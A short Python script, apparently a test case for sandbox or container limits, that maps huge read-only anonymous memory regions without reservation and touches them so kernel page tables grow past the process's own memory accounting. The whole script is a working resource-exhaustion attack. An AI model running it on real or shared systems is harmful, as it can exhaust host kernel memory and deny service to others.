# tries to: use up memory that no limit of its own counts: tables of pages that were only read
import mmap

HELD = []
try:
    while True:
        HELD.append(mmap.mmap(-1, 2**38, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ))
        for place in range(0, 2**38, 2**21):
            HELD[-1][place]
except (OSError, ValueError):
    pass
